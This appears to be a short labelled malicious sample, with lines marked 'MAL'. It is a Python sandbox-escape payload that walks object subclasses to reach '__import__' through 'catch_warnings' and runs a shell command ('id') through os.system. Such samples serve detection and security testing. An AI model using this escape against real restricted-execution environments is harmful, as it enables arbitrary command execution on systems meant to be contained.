for cls in ().__class__.__base__.__subclasses__():  # MAL
    if cls.__name__ == "catch_warnings":
        cls()._module.__builtins__["__import__"]("os").system("id")  # MAL
